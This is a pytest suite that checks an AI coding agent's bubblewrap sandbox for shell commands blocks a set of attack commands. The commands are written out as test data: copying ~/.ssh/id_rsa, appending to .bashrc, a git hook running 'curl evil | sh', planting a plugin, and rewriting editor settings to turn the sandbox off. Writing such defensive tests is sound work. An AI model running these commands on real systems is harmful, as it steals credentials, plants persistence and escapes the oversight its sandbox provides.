"""The command sandbox, for real: each attack a command can make once ``execute`` is allowed is
stopped in the sandbox, and does what docs/settings.md says without it.

The attacks: writing outside the workspace (another project folder, the machine's /tmp, the home
folder), reading ``~/.ssh``, connecting to a server on loopback with the network off, and leaving
a ``setsid`` child behind. Each is run through the host in-process (real subprocesses), then all of
them in one turn through the language server and through ``elelem-lsp ask``. The home folder and
the other project live outside /tmp (under /var/tmp): a write into /tmp lands in the sandbox's
private layer whatever else holds, so a target there could not show that a write got through.

What a command still sees: the machine's files as they are, /tmp included (an interpreter in a
venv under /tmp runs), in both ways /tmp can be private (a layer over it, or read-only with a
private TMPDIR where the kernel refuses the layer).
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import sys
import tempfile
import threading
import uuid
from dataclasses import dataclass
from pathlib import Path

import pytest

from .attacks_cmds import alive, still_alive_after
from .sandbox_tmp import tmp_kind, under_tmp, venv_in  # noqa: F401  (fixtures)
from elelem_lsp.agent import sandbox
from elelem_lsp.agent.toolbox import Toolbox
from elelem_lsp.host.settings import Settings
from host.memory_frontend import memory_workspace
from optional_parts import require_bubblewrap
from scaffold import add_plugin, run_ask, write_script

SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- not-really"


@pytest.fixture(autouse=True)
def a_sandbox_works_here():
    require_bubblewrap()  # the attacks are checked with bubblewrap


@pytest.fixture
def home(home, monkeypatch):
    """The home folder (and the XDG folders in it) moved out of /tmp, under /var/tmp: a write to a
    home under /tmp would land in the sandbox's private layer even if the home were writable."""
    moved = Path(tempfile.mkdtemp(prefix="elelem-home-", dir="/var/tmp"))
    for variable, value in list(os.environ.items()):
        if variable == "HOME" or (variable.startswith("XDG_") and Path(value).is_relative_to(home)):
            monkeypatch.setenv(variable, str(moved / Path(value).relative_to(home)))
    yield moved
    shutil.rmtree(moved, ignore_errors=True)


class Listener:
    """A TCP server on loopback that counts the connections it accepts."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.accepted = 0
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self) -> None:
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:  # closed
                return
            self.accepted += 1
            connection.close()

    def close(self) -> None:
        self.server.close()


@dataclass
class Targets:
    """What the attacks aim at, outside the workspace."""

    home: Path
    workspace: Path
    other_project: Path  # a folder outside /tmp (a write into /tmp lands in the sandbox's private layer)
    shared_tmp: Path  # a file in the machine's /tmp
    listener: Listener
    marker: str  # the setsid child's sleep argument, unique, to find it by

    def commands(self) -> dict[str, str]:
        connect = f"import socket; socket.create_connection(('127.0.0.1', {self.listener.port}), 5); print('connected')"
        return {
            "other project": f"echo pwned > {self.other_project}/escaped",
            "machine /tmp": f"echo pwned > {self.shared_tmp}",
            "home folder": "echo pwned >> $HOME/.bashrc",
            "read ~/.ssh": "cat $HOME/.ssh/id_rsa > stolen",
            "network": f'{sys.executable} -c "{connect}"',
            # The child says when it has its own session (before that, the group's end would take it too).
            "setsid child": f"setsid sh -c 'echo $$ > session; exec sleep {self.marker}' > /dev/null 2>&1 & "
            "while [ ! -s session ]; do sleep 0.01; done; echo started",
        }

    def escaped(self) -> dict[str, bool]:
        """For each attack, whether it got through (the setsid child: whether it is still running)."""
        return {
            "other project": (self.other_project / "escaped").exists(),
            "machine /tmp": self.shared_tmp.exists(),
            "home folder": (self.home / ".bashrc").exists(),
            "read ~/.ssh": (self.workspace / "stolen").exists() and SECRET in (self.workspace / "stolen").read_text(),
            "network": self.listener.accepted > 0,
            "setsid child": any(still_alive_after(pid, 1.0) for pid in self.leftovers()),
        }

    def leftovers(self) -> list[int]:
        """The setsid children still running, found by their command line (their pid in the
        sandbox is not the one the host sees)."""
        wanted = f"sleep\0{self.marker}\0".encode()
        found = []
        for entry in Path("/proc").iterdir():
            try:
                if entry.name.isdigit() and (entry / "cmdline").read_bytes() == wanted and alive(int(entry.name)):
                    found.append(int(entry.name))
            except OSError:  # it ended meanwhile
                pass
        return found

    def clean(self) -> None:
        for pid in self.leftovers():
            os.kill(pid, signal.SIGKILL)
        self.listener.close()
        self.shared_tmp.unlink(missing_ok=True)
        shutil.rmtree(self.other_project, ignore_errors=True)


@pytest.fixture
def targets(home, project):
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_rsa").write_text(SECRET + "\n")
    other = Path(tempfile.mkdtemp(prefix="elelem-other-project-", dir="/var/tmp"))
    aimed = Targets(home, project, other, Path(f"/tmp/elelem-shared-{uuid.uuid4().hex}"), Listener(),
                    f"{1000 + uuid.uuid4().int % 1000}.{uuid.uuid4().int % 10**6}")
    yield aimed
    aimed.clean()


NOTHING_ESCAPED = dict.fromkeys(["other project", "machine /tmp", "home folder", "network", "setsid child", "read ~/.ssh"], False)
# Without the sandbox (docs/settings.md): every attack works but the setsid child's, which escapes too.
EVERYTHING_ESCAPED = dict.fromkeys(NOTHING_ESCAPED, True)


# -- the host, in-process ------------------------------------------------------------------


async def run(root: Path, command: str, **settings) -> dict:
    ws = memory_workspace(root, lambda: Settings(execute="allow", **settings))
    return await Toolbox().call("execute", {"command": command, "timeout": 30}, ws)


@pytest.mark.parametrize("attack", ["other project", "machine /tmp", "home folder", "network", "setsid child", "read ~/.ssh"])
async def test_each_attack_is_stopped_in_the_sandbox(project, targets, attack, tmp_kind):
    result = await run(project, targets.commands()[attack])
    assert result["ok"] is True, result
    scratch = "a private /tmp" if tmp_kind == "overlay" else f"a private TMPDIR ({sandbox.private_tmp()}; /tmp read-only)"
    assert result["sandbox"] == f"bubblewrap: writes only to the workspace (not its settings, plugins or git hooks) and {scratch}, network off"
    assert targets.escaped()[attack] is False, result["output"]


@pytest.mark.parametrize("attack", ["other project", "machine /tmp", "home folder", "network", "setsid child", "read ~/.ssh"])
async def test_each_attack_works_with_the_sandbox_off(project, targets, attack):
    result = await run(project, targets.commands()[attack], sandbox="off")
    assert result["ok"] is True and "sandbox" not in result, result
    assert targets.escaped()[attack] is True, result["output"]


async def test_a_write_outside_fails_as_a_read_only_file_system(project, targets):
    result = await run(project, targets.commands()["other project"])
    assert result["exit_code"] != 0 and "Read-only file system" in result["output"]


async def test_the_home_folder_is_outside_tmp_so_that_a_write_there_could_land(home):
    """The fixtures' premise: a writable home would show in ``escaped()``."""
    assert not home.is_relative_to("/tmp") and os.environ["HOME"] == str(home)


# -- what a command sees, /tmp included ------------------------------------------------------


async def test_an_interpreter_in_a_venv_under_tmp_runs_and_reads_its_files(project, under_tmp, tmp_kind):
    python = venv_in(under_tmp)
    (under_tmp / "data.txt").write_text("read from /tmp\n")
    (under_tmp / "tool.py").write_text("import sys; print(open(sys.argv[1]).read().strip(), sys.prefix)\n")
    result = await run(project, f"{python} {under_tmp}/tool.py {under_tmp}/data.txt")
    assert (result["exit_code"], result["output"]) == (0, f"read from /tmp {under_tmp}/venv\n")


async def test_writes_to_tmp_outside_the_workspace_do_not_land(project, under_tmp, tmp_kind):
    (under_tmp / "kept.txt").write_text("original\n")
    (under_tmp / "gone.txt").write_text("original\n")
    command = f"echo changed > {under_tmp}/kept.txt; rm -f {under_tmp}/gone.txt; echo new > {under_tmp}/new.txt; cat {under_tmp}/kept.txt"
    result = await run(project, command)
    assert result["ok"] is True, result
    assert sorted(p.name for p in under_tmp.iterdir()) == ["gone.txt", "kept.txt"]
    assert (under_tmp / "kept.txt").read_text() == (under_tmp / "gone.txt").read_text() == "original\n"
    if tmp_kind == "overlay":  # the command saw its own writes, in its private layer
        assert result["output"] == "changed\n"
    else:
        assert result["output"].count("Read-only file system") == 3 and result["output"].endswith("original\n")


async def test_the_private_temporary_folder_is_writable_and_a_workspace_under_tmp_stays_the_real_one(project, tmp_kind):
    assert project.is_relative_to("/tmp"), project  # pytest's tmp_path, under /tmp here
    result = await run(project, 'echo scratch > "$TMPDIR/s" && cat "$TMPDIR/s" && echo kept > made.txt && echo "$TMP $TEMP"')
    assert result["exit_code"] == 0 and result["output"].startswith("scratch\n"), result
    assert (project / "made.txt").read_text() == "kept\n"
    folder = "/tmp" if tmp_kind == "overlay" else str(sandbox.private_tmp())
    assert result["output"] == f"scratch\n{folder} {folder}\n"


async def test_a_command_that_fails_on_a_hidden_secret_is_told_the_sandbox_hid_it(project, targets):
    result = await run(project, f"{targets.home}/.ssh/deploy.sh; cat $HOME/.ssh/id_rsa")
    assert result["exit_code"] != 0 and "No such file or directory" in result["output"], result
    assert result["hidden"] == (
        f"the sandbox hides {targets.home}/.ssh from commands (keys, credentials and the agents' sockets read as "
        "empty or missing); only the setting elelem.sandbox 'off' shows them, by running commands without the sandbox"
    )
    assert "hidden" not in await run(project, f"cat {targets.home}/missing")  # not hidden, just missing


async def test_the_secrets_stay_hidden_when_the_workspace_is_the_home_folder(targets):
    """Here only the hiding of ~/.ssh keeps the key (the home folder is the workspace, writable)."""
    result = await run(targets.home, "cat .ssh/id_rsa; ls -A .ssh; echo x > .ssh/authorized_keys; ls .ssh")
    assert SECRET not in result["output"] and "No such file" in result["output"]
    assert not (targets.home / ".ssh" / "authorized_keys").exists()
    assert (targets.home / ".ssh" / "id_rsa").read_text() == SECRET + "\n"


async def test_a_listed_writable_folder_is_writable(project, targets):
    result = await run(project, f"echo cached > {targets.other_project}/pkg", sandboxWritable=[str(targets.other_project)])
    assert result["exit_code"] == 0 and (targets.other_project / "pkg").read_text() == "cached\n"


async def test_the_network_setting_lets_the_connection_through(project, targets):
    result = await run(project, targets.commands()["network"], sandboxNetwork=True)
    assert "connected" in result["output"] and targets.listener.accepted == 1
    assert result["sandbox"].endswith("network on")


async def test_a_timeout_ends_the_sandbox_and_what_it_started(project, targets):
    command = targets.commands()["setsid child"] + "; sleep 100"
    ws = memory_workspace(project, lambda: Settings(execute="allow"))
    result = await Toolbox().call("execute", {"command": command, "timeout": 2}, ws)
    assert result["ok"] is False and "timed out" in result["error"] and "started" in result["error"]
    assert not any(still_alive_after(pid, 1.0) for pid in targets.leftovers())


# -- the workspace's guarded files: its settings, plugins and git hooks stay as they are ------------

SETTINGS = '{"elelem.execute": "ask"}\n'
# Each a command that would loosen elelem or leave code to run outside the sandbox later, and
# the file it aims at: present in the folder (read-only) or missing (it must stay missing).
GUARDED_WRITES = {
    "the editor's settings": ('echo \'{"elelem.sandbox": "off", "elelem.execute": "allow"}\' > .vscode/settings.json', ".vscode/settings.json"),
    "the editor's settings, replaced": ("rm -rf .vscode; mkdir .vscode && echo '{}' > .vscode/settings.json", ".vscode/settings.json"),
    "the editor's settings, moved": ("mv .vscode v && mkdir .vscode && echo '{}' > .vscode/settings.json", ".vscode/settings.json"),
    "Zed's settings, created": ("mkdir -p .zed && echo '{}' > .zed/settings.json", ".zed/settings.json"),
    "Neovim's exrc, created": ("echo 'vim.g.x = 1' > .nvim.lua", ".nvim.lua"),
    "Emacs's dir-locals, created": ("echo '((nil . ((elelem-sandbox . \"off\"))))' > .dir-locals.el", ".dir-locals.el"),
    "a workspace plugin": ("mkdir -p .agents/plugins && echo 'import os' > .agents/plugins/evil.py", ".agents/plugins/evil.py"),
    "a git hook": ("echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit", ".git/hooks/pre-commit"),
    "git's config": ("git config core.hooksPath /tmp/evil", ".git/config"),
}


def guarded_project(project: Path) -> dict[str, bytes | None]:
    """A repository with VS Code settings and nothing else guarded; what each aimed-at file holds."""
    (project / ".vscode").mkdir()
    (project / ".vscode" / "settings.json").write_text(SETTINGS)
    assert os.system(f"git init -q {project}") == 0
    return {target: read_or_none(project / target) for _, target in GUARDED_WRITES.values()}


def read_or_none(path: Path) -> bytes | None:
    return path.read_bytes() if path.is_file() else None


@pytest.mark.parametrize("attack", GUARDED_WRITES)
async def test_a_command_cannot_change_the_folders_settings_plugins_or_git_hooks(project, attack):
    before = guarded_project(project)
    command, target = GUARDED_WRITES[attack]
    result = await run(project, command)
    assert result["exit_code"] != 0, result["output"]
    assert read_or_none(project / target) == before[target]
    assert sorted(p.name for p in project.iterdir()) == [".git", ".vscode", "README.md"]  # no placeholder left
    assert (project / ".vscode" / "settings.json").read_text() == SETTINGS


@pytest.mark.parametrize("attack", ["the editor's settings", "a workspace plugin", "a git hook"])
async def test_with_the_sandbox_off_a_command_changes_them(project, attack):
    guarded_project(project)
    command, target = GUARDED_WRITES[attack]
    result = await run(project, command, sandbox="off")
    assert result["exit_code"] == 0 and (project / target).is_file(), result["output"]


async def test_git_still_commits_and_a_new_repository_can_be_made_in_the_sandbox(project):
    guarded_project(project)
    commit = "git add README.md && git -c user.name=a -c user.email=a@b commit -qm first && git log --format=%s"
    result = await run(project, f"{commit} && mkdir sub && git init -q sub && ls sub/.git/config")
    assert (result["exit_code"], result["output"]) == (0, "first\nsub/.git/config\n")


# -- through the faces ---------------------------------------------------------------------------


def script_of_attacks(project: Path, targets: Targets) -> None:
    add_plugin(project, "scripted")
    calls = [{"type": "doing", "id": name, "name": "execute", "arguments": {"command": command, "timeout": 30}}
             for name, command in targets.commands().items()]
    write_script(project, [calls])


@pytest.mark.parametrize(("mode", "expected"), [("auto", NOTHING_ESCAPED), ("off", EVERYTHING_ESCAPED)])
async def test_through_the_server(project, targets, start_editor, mode, expected):
    script_of_attacks(project, targets)
    editor = await start_editor(project, settings={"provider": "scripted", "execute": "allow", "sandbox": mode})
    assert (await editor.ask("attack"))["error"] is None
    assert {e["id"] for e in editor.events() if e["type"] == "result"} == set(NOTHING_ESCAPED)
    assert targets.escaped() == expected


@pytest.mark.parametrize(("mode", "expected"), [("auto", NOTHING_ESCAPED), ("off", EVERYTHING_ESCAPED)])
def test_through_elelem_lsp_ask(project, targets, home, mode, expected):
    script_of_attacks(project, targets)
    settings = home / ".config" / "elelem-lsp" / "settings.json"
    settings.parent.mkdir(parents=True, exist_ok=True)
    settings.write_text(json.dumps({"sandbox": mode}))
    run = run_ask(project, "-p", "scripted", "--yes", "attack")
    assert run.returncode == 0, run.stderr
    assert run.stderr.count("+ Run ") == len(NOTHING_ESCAPED), run.stderr
    assert targets.escaped() == expected
